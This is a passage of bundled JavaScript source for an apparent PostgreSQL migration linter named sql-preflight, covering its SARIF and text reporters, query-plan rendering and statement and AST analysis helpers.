          artifactLocation: location,
          replacements: finding.fix.edits.map((edit) => ({ deletedRegion: region(edit), insertedContent: { text: edit.text } }))
        }
      ]
    }
  ] : void 0;
  return {
    ruleId: finding.ruleId,
    ruleIndex,
    level: LEVELS[finding.severity],
    message: { text: finding.message + specificHelp },
    locations: [{ physicalLocation: { artifactLocation: location, region: region(finding) } }],
    relatedLocations: relatedQuery(finding),
    partialFingerprints: { [FINGERPRINT_KEY]: finding.fingerprint },
    fixes,
    properties: { source: finding.source, ...finding.evidence ? { evidence: finding.evidence } : {} }
  };
}
function relatedQuery(finding) {
  const query = finding.evidence?.query;
  if (!query || query.file === finding.file) return void 0;
  return [{ id: 0, physicalLocation: { artifactLocation: artifactLocation(query.file), region: { startLine: query.line } }, message: { text: `The query ${queryLocation(query)}` } }];
}
function parseErrorNotifications(file) {
  return file.parseErrors.map((error) => ({
    level: "warning",
    message: { text: `${file.path} was not analysed: PostgreSQL cannot parse it (${error.message}).` },
    locations: [
      { physicalLocation: { artifactLocation: artifactLocation(file.path), region: { startLine: error.line, startColumn: error.column } } }
    ]
  }));
}
function artifactLocation(path3) {
  return { uri: path3.split("/").map(encodeURIComponent).join("/"), uriBaseId: SRCROOT };
}
function region(span) {
  return { startLine: span.line, startColumn: span.column, endLine: span.endLine, endColumn: span.endColumn };
}
function pascalCase(id) {
  return id.replace(/(?:^|-)([a-z0-9])/g, (_, c) => c.toUpperCase());
}
var SARIF_SCHEMA_URL, FINGERPRINT_KEY, SRCROOT, INFORMATION_URI, LEVELS, PROBLEM_SEVERITY, sarifReporter;
var init_sarif = __esm({
  "src/reporters/sarif.ts"() {
    "use strict";
    init_rule();
    init_queries();
    SARIF_SCHEMA_URL = "https://docs.oasis-open.org/sarif/sarif/v2.1.0/errata01/os/schemas/sarif-schema-2.1.0.json";
    FINGERPRINT_KEY = "sqlPreflight/v1";
    SRCROOT = "%SRCROOT%";
    INFORMATION_URI = DOCS_BASE_URL.slice(0, DOCS_BASE_URL.indexOf("/blob/"));
    LEVELS = { error: "error", warning: "warning", notice: "note" };
    PROBLEM_SEVERITY = {
      error: "error",
      warning: "warning",
      notice: "recommendation"
    };
    sarifReporter = {
      format: "sarif",
      render(report, context) {
        const known = new Map(context.rules.map((rule) => [rule.id, rule]));
        const descriptors = context.rules.map(ruleDescriptor);
        const ruleIndex = new Map(context.rules.map((rule, i) => [rule.id, i]));
        for (const finding of report.findings) {
          if (ruleIndex.has(finding.ruleId)) continue;
          ruleIndex.set(finding.ruleId, descriptors.length);
          descriptors.push(unknownRuleDescriptor(finding));
        }
        const log = {
          $schema: SARIF_SCHEMA_URL,
          version: "2.1.0",
          runs: [
            {
              tool: {
                driver: { name: report.tool.name, version: report.tool.version, informationUri: INFORMATION_URI, rules: descriptors }
              },
              invocations: [{ executionSuccessful: true, toolExecutionNotifications: report.files.flatMap(parseErrorNotifications) }],
              originalUriBaseIds: {
                [SRCROOT]: { description: { text: "The directory sql-preflight ran in; result paths are relative to it." } }
              },
              columnKind: "unicodeCodePoints",
              results: report.findings.map((finding) => result(finding, ruleIndex.get(finding.ruleId), known.get(finding.ruleId)))
            }
          ]
        };
        return JSON.stringify(log, null, 2) + "\n";
      }
    };
  }
});

// src/plan/text.ts
function nodeLabel(node) {
  const parts = [];
  if (node["Parallel Aware"]) parts.push("Parallel ");
  if (node["Async Capable"]) parts.push("Async ");
  parts.push(nodeName(node));
  const type = node["Node Type"];
  if (type === "Index Scan" || type === "Index Only Scan") {
    if (node["Scan Direction"] === "Backward") parts.push(" Backward");
    parts.push(` using ${quote2(node["Index Name"] ?? "?")}`);
  } else if (type === "Bitmap Index Scan") {
    parts.push(` on ${quote2(node["Index Name"] ?? "?")}`);
  }
  if (node.Alias !== void 0) parts.push(scanTarget(node, node.Alias));
  return parts.join("");
}
function relationName(node) {
  const name = node["Relation Name"];
  if (name === void 0) return void 0;
  return node.Schema ? `${quote2(node.Schema)}.${quote2(name)}` : quote2(name);
}
function planLines(node) {
  return [nodeLabel(node) + figures(node), ...properties(node).map((line) => `  ${line}`)];
}
function planExcerpt(node, descendants) {
  const shown = /* @__PURE__ */ new Set([node, ...descendants]);
  const lines = [];
  renderNode(node, 0, lines, (n) => shown.has(n));
  return lines;
}
function renderNode(node, indent, lines, include = () => true) {
  const shown = include(node);
  let level = indent;
  const name = node["Subplan Name"];
  if (name) {
    if (shown) lines.push(`${"  ".repeat(level)}${name}`);
    level++;
  }
  const [first = "", ...rest] = planLines(node);
  const arrow = level > 0;
  if (shown) lines.push(arrow ? `${"  ".repeat(level)}->  ${first}` : first);
  if (arrow) level += 2;
  if (shown) for (const line of rest) lines.push("  ".repeat(level) + line);
  for (const child of node.Plans ?? []) renderNode(child, level + 1, lines, include);
}
function nodeName(node) {
  const type = node["Node Type"];
  switch (type) {
    case "Aggregate": {
      const names3 = { Plain: "Aggregate", Sorted: "GroupAggregate", Hashed: "HashAggregate", Mixed: "MixedAggregate" };
      const name = names3[node.Strategy ?? "Plain"] ?? "Aggregate";
      const mode = node["Partial Mode"];
      return mode === "Partial" || mode === "Finalize" ? `${mode} ${name}` : name;
    }
    case "SetOp":
      return `${node.Strategy === "Hashed" ? "HashSetOp" : "SetOp"}${node.Command ? ` ${node.Command}` : ""}`;
    case "ModifyTable":
      return node.Operation ?? type;
    case "Foreign Scan":
      return node.Operation && node.Operation !== "Select" ? `Foreign ${node.Operation}` : type;
    case "Custom Scan":
      return typeof node["Custom Plan Provider"] === "string" ? `Custom Scan (${node["Custom Plan Provider"]})` : type;
    case "Nested Loop":
    case "Merge Join":
    case "Hash Join": {
      const base = type === "Nested Loop" ? type : type.slice(0, -" Join".length);
      const join3 = node["Join Type"];
      if (join3 && join3 !== "Inner") return `${base} ${join3} Join`;
      return type;
    }
    default:
      return type;
  }
}
function scanTarget(node, alias) {
  const key = OBJECT_NAME_KEYS.find((k) => typeof node[k] === "string");
  const object = key ? node[key] : void 0;
  let target = " on";
  if (object !== void 0) target += node.Schema ? ` ${quote2(node.Schema)}.${quote2(object)}` : ` ${quote2(object)}`;
  if (object === void 0 || alias !== object) target += ` ${quote2(alias)}`;
  return target;
}
function figures(node) {
  let text2 = "";
  if (node["Total Cost"] !== void 0) {
    text2 += `  (cost=${(node["Startup Cost"] ?? 0).toFixed(2)}..${node["Total Cost"].toFixed(2)} rows=${Math.round(node["Plan Rows"] ?? 0)} width=${node["Plan Width"] ?? 0})`;
  }
  const loops = node["Actual Loops"];
  if (loops !== void 0) {
    if (loops === 0) return `${text2} (never executed)`;
    const time2 = node["Actual Total Time"] !== void 0 ? `time=${(node["Actual Startup Time"] ?? 0).toFixed(3)}..${node["Actual Total Time"].toFixed(3)} ` : "";
    text2 += ` (actual ${time2}rows=${rows(node["Actual Rows"] ?? 0)} loops=${loops})`;
  }
  return text2;
}
function rows(value) {
  return Number.isInteger(value) ? String(value) : value.toFixed(2);
}
function buffersLine(values) {
  const sections2 = ["Shared", "Local", "Temp"].map((kind) => {
    const counts = ["Hit", "Read", "Dirtied", "Written"].map((what) => [what.toLowerCase(), Number(values[`${kind} ${what} Blocks`] ?? 0)]).filter(([, count2]) => count2 > 0).map(([what, count2]) => `${what}=${count2}`);
    return counts.length ? `${kind.toLowerCase()} ${counts.join(" ")}` : void 0;
  }).filter((section) => section !== void 0);
  return sections2.length ? `Buffers: ${sections2.join(", ")}` : void 0;
}
function ioTimingLine(values) {
  const sections2 = ["Shared", "Local", "Temp"].map((kind) => {
    const times = ["Read", "Write"].map((what) => [what.toLowerCase(), Number(values[`${kind} I/O ${what} Time`] ?? 0)]).filter(([, ms]) => ms > 0).map(([what, ms]) => `${what}=${ms.toFixed(3)}`);
    return times.length ? `${kind.toLowerCase()} ${times.join(" ")}` : void 0;
  }).filter((section) => section !== void 0);
  return sections2.length ? `I/O Timings: ${sections2.join(", ")}` : void 0;
}
function properties(node) {
  const lines = [];
  const done = /* @__PURE__ */ new Set();
  for (const [key, value] of Object.entries(node)) {
    if (NOT_PROPERTIES.has(key) || done.has(key) || value === void 0 || value === null) continue;
    const group = GROUPS.find((g) => g.keys.includes(key) && (g.when?.(node) ?? true));
    if (group) {
      for (const k of group.keys) done.add(k);
      const line2 = group.line(node);
      if (line2) lines.push(line2);
      continue;
    }
    const line = property(node, key, value);
    if (line !== void 0) lines.push(line);
  }
  return lines;
}
function property(node, key, value) {
  if (key.startsWith("Rows Removed by") || key === "Subplans Removed") return Number(value) > 0 ? `${key}: ${value}` : void 0;
  if (key === "Disabled" || key === "Single Copy") return value === true ? `${key}: true` : void 0;
  if (key === "Inner Unique") return value === true && node.Output !== void 0 ? "Inner Unique: true" : void 0;
  if (key.endsWith(" Groups") && typeof value === "object" && !Array.isArray(value)) return sortGroups(key, value);
  if (Array.isArray(value)) return value.every((v) => typeof v === "string") ? `${key}: ${value.join(", ")}` : void 0;
  if (typeof value === "object") return void 0;
  return `${key}: ${value}`;
}
function sortGroups(key, group) {
  const methods = group["Sort Methods Used"] ?? [];
  let line = `${key.replace(/ Groups$/, "")} Groups: ${group["Group Count"]}  Sort Method${methods.length > 1 ? "s" : ""}: ${methods.join(", ")}`;
  for (const space of ["Memory", "Disk"]) {
    const used = group[`Sort Space ${space}`];
    if (used) line += `  Average ${space}: ${used["Average Sort Space Used"]}kB  Peak ${space}: ${used["Peak Sort Space Used"]}kB`;
  }
  return line;
}
function quote2(name) {
  return /^[a-z_][a-z0-9_$]*$/.test(name) && !KEYWORDS.has(name) ? name : `"${name.replaceAll('"', '""')}"`;
}
function formatCount(value) {
  return Math.round(value).toLocaleString("en-US");
}
function formatShare(value) {
  const percent = value * 100;
  return `${percent < 1 ? Number(percent.toPrecision(1)) : Math.round(percent)}%`;
}
function formatCost(cost) {
  return cost.toLocaleString("en-US", { minimumFractionDigits: 2, maximumFractionDigits: 2 });
}
function formatRise(increase) {
  if (!Number.isFinite(increase)) return "";
  return increase >= 1 ? ` (${Number((increase + 1).toPrecision(2))}x)` : ` (+${Math.round(increase * 100)}%)`;
}
var OBJECT_NAME_KEYS, NOT_PROPERTIES, BUFFER_KEYS, IO_TIMING_KEYS, GROUPS, KEYWORDS;
var init_text2 = __esm({
  "src/plan/text.ts"() {
    "use strict";
    OBJECT_NAME_KEYS = ["Relation Name", "Function Name", "CTE Name", "Table Function Name", "Tuplestore Name"];
    NOT_PROPERTIES = /* @__PURE__ */ new Set([
      "Node Type",
      "Strategy",
      "Partial Mode",
      "Operation",
      "Parent Relationship",
      "Subplan Name",
      "Custom Plan Provider",
      "Parallel Aware",
      "Async Capable",
      "Scan Direction",
      "Index Name",
      "Alias",
      "Schema",
      "Join Type",
      "Command",
      ...OBJECT_NAME_KEYS,
      "Startup Cost",
      "Total Cost",
      "Plan Rows",
      "Plan Width",
      "Actual Startup Time",
      "Actual Total Time",
      "Actual Rows",
      "Actual Loops",
      "Plans",
      "Workers",
      "Output"
    ]);
    BUFFER_KEYS = ["Shared", "Local"].flatMap((kind) => ["Hit", "Read", "Dirtied", "Written"].map((what) => `${kind} ${what} Blocks`)).concat(["Temp Read Blocks", "Temp Written Blocks"]);
    IO_TIMING_KEYS = ["Shared", "Local", "Temp"].flatMap((kind) => [`${kind} I/O Read Time`, `${kind} I/O Write Time`]);
    GROUPS = [
      {
        keys: ["Sort Method", "Sort Space Used", "Sort Space Type"],
        line: (n) => `Sort Method: ${n["Sort Method"]}  ${n["Sort Space Type"]}: ${n["Sort Space Used"]}kB`
      },
      {
        keys: ["Hash Buckets", "Original Hash Buckets", "Hash Batches", "Original Hash Batches", "Peak Memory Usage"],
        when: (n) => n["Node Type"] === "Hash",
        line: (n) => n["Hash Batches"] !== n["Original Hash Batches"] || n["Hash Buckets"] !== n["Original Hash Buckets"] ? `Buckets: ${n["Hash Buckets"]} (originally ${n["Original Hash Buckets"]})  Batches: ${n["Hash Batches"]} (originally ${n["Original Hash Batches"]})  Memory Usage: ${n["Peak Memory Usage"]}kB` : `Buckets: ${n["Hash Buckets"]}  Batches: ${n["Hash Batches"]}  Memory Usage: ${n["Peak Memory Usage"]}kB`
      },
      {
        keys: ["Planned Partitions", "HashAgg Batches", "Peak Memory Usage", "Disk Usage"],
        when: (n) => n["Node Type"] === "Aggregate",
        line: (n) => {
          const parts = [];
          if (n["Planned Partitions"]) parts.push(`Planned Partitions: ${n["Planned Partitions"]}`);
          const batches = n["HashAgg Batches"];
          if (batches !== void 0) {
            parts.push(`Batches: ${batches}  Memory Usage: ${n["Peak Memory Usage"]}kB${batches > 1 ? `  Disk Usage: ${n["Disk Usage"]}kB` : ""}`);
          }
          return parts.length ? parts.join("  ") : void 0;
        }
      },
      {
        keys: ["Cache Hits", "Cache Misses", "Cache Evictions", "Cache Overflows", "Peak Memory Usage"],
        when: (n) => n["Node Type"] === "Memoize",
        line: (n) => `Hits: ${n["Cache Hits"]}  Misses: ${n["Cache Misses"]}  Evictions: ${n["Cache Evictions"]}  Overflows: ${n["Cache Overflows"]}  Memory Usage: ${n["Peak Memory Usage"]}kB`
      },
      {
        keys: ["Exact Heap Blocks", "Lossy Heap Blocks"],
        line: (n) => {
          const exact = n["Exact Heap Blocks"] ?? 0;
          const lossy = n["Lossy Heap Blocks"] ?? 0;
          if (!exact && !lossy) return void 0;
          return `Heap Blocks:${exact ? ` exact=${exact}` : ""}${lossy ? ` lossy=${lossy}` : ""}`;
        }
      },
      { keys: ["Storage", "Maximum Storage"], line: (n) => `Storage: ${n.Storage}  Maximum Storage: ${n["Maximum Storage"]}kB` },
      { keys: BUFFER_KEYS, line: (n) => buffersLine(n) },
      { keys: IO_TIMING_KEYS, line: (n) => ioTimingLine(n) },
      {
        keys: ["WAL Records", "WAL FPI", "WAL Bytes", "WAL Buffers Full"],
        line: (n) => {
          const parts = [["records", "WAL Records"], ["fpi", "WAL FPI"], ["bytes", "WAL Bytes"], ["buffers full", "WAL Buffers Full"]].filter(([, key]) => Number(n[key]) > 0).map(([label2, key]) => `${label2}=${n[key]}`);
          return parts.length ? `WAL: ${parts.join(" ")}` : void 0;
        }
      }
    ];
    KEYWORDS = new Set(
      "all analyse analyze and any array as asc asymmetric both case cast check collate column constraint create current_catalog current_date current_role current_time current_timestamp current_user default deferrable desc distinct do else end except false fetch for foreign from grant group having in initially intersect into lateral leading limit localtime localtimestamp not null offset on only or order placing primary references returning select session_user some symmetric system_user table then to trailing true union unique user using variadic when where window with authorization binary collation concurrently cross current_schema freeze full ilike inner is isnull join left like natural notnull outer overlaps right similar tablesample verbose between bigint bit boolean char character coalesce dec decimal exists extract float greatest grouping inout int integer interval json json_array json_arrayagg json_exists json_object json_objectagg json_query json_scalar json_serialize json_table json_value least merge_action national nchar none normalize nullif numeric out overlay position precision real row setof smallint substring time timestamp treat trim values varchar xmlattributes xmlconcat xmlelement xmlexists xmlforest xmlnamespaces xmlparse xmlpi xmlroot xmlserialize xmltable".split(" ")
    );
  }
});

// src/reporters/evidence.ts
function evidenceLines(evidence2) {
  const trace = evidence2;
  if (!trace?.locks) return [];
  const parts = [];
  if (trace.locks.length) parts.push(`took ${trace.locks.map((l) => `${l.mode} on ${l.relation}`).join(", ")}`);
  if (trace.rewrites?.length) parts.push(`rewrote ${trace.rewrites.join(", ")}`);
  if (trace.validated?.length) parts.push(`scanned to validate ${trace.validated.map((v) => `${v.what} on ${v.relation}`).join(", ")}`);
  if (trace.durationMs !== void 0) parts.push(`ran in ${trace.durationMs < 10 ? trace.durationMs.toFixed(1) : Math.round(trace.durationMs)} ms`);
  const lines = [parts.length ? parts.join("; ") : "ran on the database without locking, rewriting or scanning an existing table"];
  const blocked = trace.blocked?.filter((b) => b.reads || b.writes) ?? [];
  if (blocked.length) lines.push(`a second session was blocked from ${blocked.map((b) => `${b.reads ? "reading and writing" : "writing"} ${b.relation}`).join(", ")}`);
  for (const e of trace.estimates ?? []) {
    lines.push(`${e.operation} of ${e.relation} at production size (${e.rows.toLocaleString("en-US")} rows) takes roughly ${Math.max(1, Math.round(e.seconds))} s (${e.basis} throughput)`);
  }
  return lines;
}
function planBlocks(evidence2) {
  const found = evidence2 ?? {};
  const blocks = [];
  if (found.query) blocks.push({ kind: "query", title: "The query", caption: queryLocation(found.query), lines: [] });
  if (found.base) blocks.push({ kind: "plan", title: "Before the change", caption: `estimated cost ${formatCost(found.base.cost)}`, lines: found.base.lines });
  if (found.changed) {
    const rise = found.increase === void 0 ? "" : formatRise(found.increase);
    blocks.push({ kind: "plan", title: "After the change", caption: `estimated cost ${formatCost(found.changed.cost)}${rise}`, lines: found.changed.lines });
  }
  if (found.index) {
    const { beforeCost, afterCost, sizeBytes, planLines: planLines2 } = found.index;
    blocks.push({
      kind: "plan",
      title: "With the suggested index (measured)",
      caption: `estimated cost ${formatCost(beforeCost)} \u2192 ${formatCost(afterCost)}; the index takes ${formatSize(sizeBytes)} on the seeded data`,
      lines: planLines2
    });
  }
  if (found.plan) blocks.push({ kind: "plan", title: "The plan", caption: found.plan.node, lines: found.plan.lines });
  if (found.error) {
    blocks.push({ kind: "error", title: "PostgreSQL's error", ...found.error.code ? { caption: `SQLSTATE ${found.error.code}` } : {}, lines: [`ERROR:  ${found.error.message}`] });
  }
  return blocks;
}
function formatSize(bytes) {
  let value = bytes;
  let unit2 = "bytes";
  for (const next of ["kB", "MB", "GB", "TB"]) {
    if (value < 10 * 1024) break;
    value /= 1024;
    unit2 = next;
  }
  return `${Math.round(value)} ${unit2}`;
}
function seedLine(seed) {
  const filled = seed.tables.filter((t) => t.rows > 0).length;
  const time2 = seed.ms < 1e3 ? `${Math.round(seed.ms)} ms` : `${(seed.ms / 1e3).toFixed(1)} s`;
  const parts = [`${formatCount(seed.rows)} ${seed.rows === 1 ? "row" : "rows"} in ${filled} ${filled === 1 ? "table" : "tables"} (${time2})`];
  const statistics = seed.statistics;
  if (statistics) {
    const tables = `${statistics.tables} ${statistics.tables === 1 ? "table" : "tables"}`;
    parts.push(statistics.mode === "restored" ? `production statistics restored for ${tables}` : `production row counts used for ${tables}, statistics not restored`);
  }
  return `Seeded data: ${parts.join("; ")}.`;
}
var init_evidence = __esm({
  "src/reporters/evidence.ts"() {
    "use strict";
    init_text2();
    init_queries();
  }
});

// src/reporters/text.ts
function styles(color) {
  const wrap = (open, close) => color ? (t) => `\x1B[${open}m${t}\x1B[${close}m` : (t) => t;
  return {
    error: wrap(31, 39),
    warning: wrap(33, 39),
    notice: wrap(36, 39),
    dim: wrap(2, 22),
    bold: wrap(1, 22)
  };
}
function renderFinding(finding, context, style) {
  const severity = style[finding.severity](finding.severity);
  const lines = [`${style.bold(`${finding.file}:${finding.line}:${finding.column}`)}  ${severity}  ${style.dim(finding.ruleId)}  ${finding.message}`];
  const text2 = context.readSource(finding.file);
  if (text2 !== void 0) lines.push(...codeFrame(text2, finding, style));
  lines.push(...evidenceLines(finding.evidence).map((line) => `  ${style.bold("evidence:")} ${line}`));
  for (const block of planBlocks(finding.evidence)) {
    lines.push(`  ${style.bold(`${block.title}:`)}${block.caption ? ` ${printable(block.caption)}` : ""}`);
    lines.push(...block.lines.map((line) => `      ${printable(line)}`));
  }
  if (finding.help) lines.push(`  ${style.bold("help:")} ${finding.help.replace(/\n/g, "\n        ")}`);
  if (finding.fix) lines.push(`  ${style.bold("fix:")} ${finding.fix.description}`);
  if (finding.docsUrl) lines.push(`  ${style.bold("docs:")} ${finding.docsUrl}`);
  return lines.join("\n");
}
function codeFrame(text2, finding, style) {
  const source2 = text2.replace(/^\uFEFF/, "").split(/\r?\n/);
  const endLine = finding.endColumn === 1 && finding.endLine > finding.line ? finding.endLine - 1 : finding.endLine;
  let shown = range(finding.line, Math.min(endLine, source2.length));
  if (shown.length > MAX_FRAME_LINES) shown = [...shown.slice(0, MAX_FRAME_LINES - 2), -1, ...shown.slice(-1)];
  const width = String(Math.max(...shown)).length;
  const gutter = (label2) => style.dim(`${label2.padStart(width)} | `);
  const out = [];
  for (const lineNumber of shown) {
    if (lineNumber === -1) {
      out.push(style.dim(`${".".repeat(width)} | ...`));
      continue;
    }
    const chars = [...printable(source2[lineNumber - 1] ?? "")];
    const from = lineNumber === finding.line ? finding.column - 1 : firstNonBlank(chars);
    const to = lineNumber === finding.endLine ? finding.endColumn - 1 : chars.length;
    out.push(gutter(String(lineNumber)) + chars.join(""));
    const carets = Math.max(1, to - from);
    out.push(gutter("") + " ".repeat(Math.max(0, from)) + style[finding.severity]("^".repeat(carets)));
  }
  return out;
}
function printable(text2) {
  return text2.replace(/\t/g, " ").replace(/[\x00-\x1f\x7f]/g, "\uFFFD");
}
function firstNonBlank(chars) {
  const index = chars.findIndex((c) => c !== " ");
  return index === -1 ? 0 : index;
}
function range(from, to) {
  return Array.from({ length: Math.max(1, to - from + 1) }, (_, i) => from + i);
}
function summaryLine(report, style) {
  const { summary } = report;
  const scope = `${plural(summary.files, "file")}, ${plural(summary.statements, "statement")}`;
  const suppressed = (summary.suppressed ? `; ${summary.suppressed} suppressed by ignore comments` : "") + (summary.refuted ? `; ${summary.refuted} dropped because the database showed them wrong (--verbose lists them)` : "");
  if (summary.total === 0) return `No problems found in ${scope}${suppressed}.`;
  const counts = ["error", "warning", "notice"].filter((s) => summary[s] > 0).map((s) => style[s](plural(summary[s], s))).join(", ");
  return `${plural(summary.total, "problem")} (${counts}) in ${scope}${suppressed}.`;
}
function plural(count2, word2) {
  return `${count2} ${word2}${count2 === 1 ? "" : "s"}`;
}
var MAX_FRAME_LINES, textReporter;
var init_text3 = __esm({
  "src/reporters/text.ts"() {
    "use strict";
    init_evidence();
    MAX_FRAME_LINES = 6;
    textReporter = {
      format: "text",
      render(report, context) {
        const style = styles(context.color);
        const blocks = report.findings.map((finding) => renderFinding(finding, context, style));
        if (report.database) blocks.push(`Database: ${report.database.reason}.`);
        if (report.seed) blocks.push(seedLine(report.seed));
        if (report.notes?.length) blocks.push(report.notes.map((note) => `${style.bold("note:")} ${printable(note)}`).join("\n"));
        blocks.push(summaryLine(report, style));
        return blocks.join("\n\n") + "\n";
      }
    };
  }
});

// src/reporters/index.ts
var reporters, OUTPUT_FORMATS;
var init_reporters = __esm({
  "src/reporters/index.ts"() {
    "use strict";
    init_github();
    init_json();
    init_sarif();
    init_text3();
    reporters = {
      text: textReporter,
      json: jsonReporter,
      sarif: sarifReporter,
      github: githubReporter
    };
    OUTPUT_FORMATS = Object.keys(reporters);
  }
});

// src/core/statements.ts
function analyzeStatements(statements, mode, lines) {
  let nextTransaction = 1;
  const runnerWraps = mode === "transaction" || mode === "implicit" && statements.length > 1;
  let current = runnerWraps ? nextTransaction++ : void 0;
  let session = { lockTimeout: void 0, statementTimeout: void 0 };
  let local = {};
  let sessionAtBegin = session;
  return statements.map((parsed, index) => {
    const transactionKind = parsed.type === "TransactionStmt" ? parsed.node.kind : void 0;
    if (transactionKind && TRANSACTION_BEGIN.has(transactionKind) && current === void 0) {
      current = nextTransaction++;
      sessionAtBegin = session;
    }
    const info = {
      ...parsed,
      index,
      inTransaction: current !== void 0,
      transaction: current,
      lockTimeout: local.lockTimeout ?? session.lockTimeout,
      statementTimeout: local.statementTimeout ?? session.statementTimeout,
      text: lines.slice(parsed.range)
    };
    for (const change of settingChanges(parsed)) {
      const key = change.name === "lock_timeout" ? "lockTimeout" : "statementTimeout";
      if (change.local) {
        if (current !== void 0) local[key] = change.value ?? "0";
      } else {
        session = { ...session, [key]: change.value };
        delete local[key];
      }
    }
    if (transactionKind && TRANSACTION_END.has(transactionKind) && current !== void 0) {
      if (transactionKind === "TRANS_STMT_ROLLBACK") session = sessionAtBegin;
      const implicitAgain = mode === "implicit" && runnerWraps && index < statements.length - 1;
      current = implicitAgain ? nextTransaction++ : void 0;
      sessionAtBegin = session;
      local = {};
    }
    return info;
  });
}
function settingChanges(statement) {
  if (statement.type === "VariableSetStmt") {
    const node = statement.node;
    if (node.kind === "VAR_RESET_ALL") {
      return [...TRACKED].map((name2) => ({ name: name2, value: void 0, local: false }));
    }
    if (!node.name || !TRACKED.has(node.name)) return [];
    const name = node.name;
    const local = node.is_local === true;
    if (node.kind === "VAR_SET_VALUE") return [{ name, value: constantText(node.args?.[0]), local }];
    return [{ name, value: void 0, local }];
  }
  if (statement.type === "SelectStmt") return setConfigCalls(statement.node);
  return [];
}
function setConfigCalls(select) {
  const changes = [];
  const targets = select.targetList ?? [];
  for (const target of targets) {
    const call = target.ResTarget?.val?.FuncCall;
    const name = call?.funcname?.map(constantText).at(-1);
    if (name !== "set_config" || !call?.args || call.args.length !== 3) continue;
    const setting = constantText(call.args[0]);
    if (!setting || !TRACKED.has(setting)) continue;
    const isLocal = call.args[2].A_Const?.boolval?.boolval;
    changes.push({
      name: setting,
      value: constantText(call.args[1]),
      local: isLocal === true
    });
  }
  return changes;
}
function constantText(node) {
  if (!node || typeof node !== "object") return void 0;
  const n = node;
  if (n.String) return n.String.sval;
  const constant = n.A_Const;
  if (!constant) return void 0;
  if (constant.sval) return constant.sval.sval ?? "";
  if (constant.ival) return String(constant.ival.ival ?? 0);
  if (constant.fval) return constant.fval.fval;
  if (constant.boolval) return String(constant.boolval.boolval ?? false);
  return void 0;
}
function isDisabledTimeout(value) {
  return value === void 0 || /^\s*0+\s*(ms|s|min|h|d|us)?\s*$/i.test(value);
}
var TRANSACTION_BEGIN, TRANSACTION_END, TRACKED;
var init_statements = __esm({
  "src/core/statements.ts"() {
    "use strict";
    TRANSACTION_BEGIN = /* @__PURE__ */ new Set(["TRANS_STMT_BEGIN", "TRANS_STMT_START"]);
    TRANSACTION_END = /* @__PURE__ */ new Set(["TRANS_STMT_COMMIT", "TRANS_STMT_ROLLBACK", "TRANS_STMT_PREPARE"]);
    TRACKED = /* @__PURE__ */ new Set(["lock_timeout", "statement_timeout"]);
  }
});

// src/core/ast.ts
import { scanSync as scanSync3 } from "libpg-query";
function keywordRange(statement, ...words) {
  const tokens = statement.tokens;
  const upper = words.map((w) => w.toUpperCase());
  for (let i = 0; i + upper.length <= tokens.length; i++) {
    if (upper.every((w, j) => tokens[i + j].keyword && tokens[i + j].text.toUpperCase() === w)) {
      return { start: tokens[i].range.start, end: tokens[i + upper.length - 1].range.end };
    }
  }
  return void 0;
}
function tokenRangeAt(statement, location) {
  if (location === void 0) return void 0;
  return statement.tokens.find((t) => t.range.start === location)?.range;
}
function rangeFrom(statement, location) {
  if (location === void 0 || location < statement.range.start || location >= statement.range.end) return statement.range;
  return { start: location, end: statement.range.end };
}
function relationName2(relation) {
  if (!relation?.relname) return "?";
  return relation.schemaname ? `${relation.schemaname}.${relation.relname}` : relation.relname;
}
function alterTableCommands(statement, node) {
  const ranges = commandRanges(statement, node);
  const commands2 = [];
  (node.cmds ?? []).forEach((item, i) => {
    const cmd = item.AlterTableCmd;
    if (!cmd) return;
    const def = cmd.def;
    commands2.push({ cmd, range: ranges?.[i], column: def?.ColumnDef, constraint: def?.Constraint });
  });
  return commands2;
}
function commandRanges(statement, node) {
  const tokens = statement.tokens;
  let first = tokens.findIndex((t) => t.range.start === node.relation?.location);
  if (first < 0) return void 0;
  first++;
  while (tokens[first]?.text === ".") first += 2;
  const ranges = [];
  let depth = 0;
  let start = first;
  for (let i = first; i <= tokens.length; i++) {
    const text2 = tokens[i]?.text;
    if (text2 === "(" || text2 === "[") depth++;
    else if (text2 === ")" || text2 === "]") depth--;
    else if (text2 === "," && depth === 0 || i === tokens.length) {
      if (i === start) return void 0;
      ranges.push({ start: tokens[start].range.start, end: tokens[i - 1].range.end });
      start = i + 1;
    }
  }
  return ranges.length === (node.cmds?.length ?? 0) ? ranges : void 0;
}
function columnConstraints(def) {
  return (def?.constraints ?? []).map((c) => c.Constraint).filter((c) => !!c);
}
function typeNameSpan(statement, typeName) {
  const tokens = statement.tokens;
  const first = tokens.findIndex((t) => t.range.start === typeName?.location);
  if (first < 0) return void 0;
  const word2 = (i2) => tokens[i2]?.keyword ? tokens[i2].text.toUpperCase() : void 0;
  const interval = word2(first) === "INTERVAL";
  let i = first + 1;
  let arrayStart;
  const skipGroup = (open, close) => {
    let depth = 0;
    do {
      if (tokens[i].text === open) depth++;
      else if (tokens[i].text === close) depth--;
      i++;
    } while (depth > 0 && i < tokens.length);
  };
  while (i < tokens.length) {
    const text2 = tokens[i].text;
    const keyword = word2(i);
    if (text2 === "." && i + 1 < tokens.length) i += 2;
    else if (text2 === "(") skipGroup("(", ")");
    else if (text2 === "[") {
      arrayStart ??= i;
      skipGroup("[", "]");
    } else if (keyword === "ARRAY") {
      arrayStart ??= i;
      i++;
    } else if (keyword && TYPE_NAME_WORDS.has(keyword)) i++;
    else if ((keyword === "WITH" || keyword === "WITHOUT") && word2(i + 1) === "TIME" && word2(i + 2) === "ZONE") i += 3;
    else if (interval && keyword && INTERVAL_FIELDS.has(keyword)) i++;
    else break;
  }
  const range2 = { start: tokens[first].range.start, end: tokens[i - 1].range.end };
  return { range: range2, base: arrayStart === void 0 ? range2 : { start: range2.start, end: tokens[arrayStart - 1].range.end } };
}
function builtinTypeName(typeName) {
  const names3 = (typeName?.names ?? []).map(constantText);
  if (names3.length === 1) return names3[0];
  if (names3.length === 2 && names3[0] === "pg_catalog") return names3[1];
  return void 0;
}
function columnDefinitions(statement) {
  const node = statement.node;
  const found = [];
  const tableConstraints = [];
  if (statement.type === "CreateStmt") {
    for (const element of node.tableElts ?? []) {
      if (element.ColumnDef) found.push({ kind: "create-table", name: element.ColumnDef.colname, def: element.ColumnDef });
      if (element.Constraint) tableConstraints.push(element.Constraint);
    }
  } else if (statement.type === "AlterTableStmt" && node.objtype === "OBJECT_TABLE") {
    for (const item of node.cmds ?? []) {
      const cmd = item.AlterTableCmd;
      if (cmd?.subtype === "AT_AddColumn") found.push({ kind: "add-column", name: cmd.def?.ColumnDef?.colname, def: cmd.def?.ColumnDef });
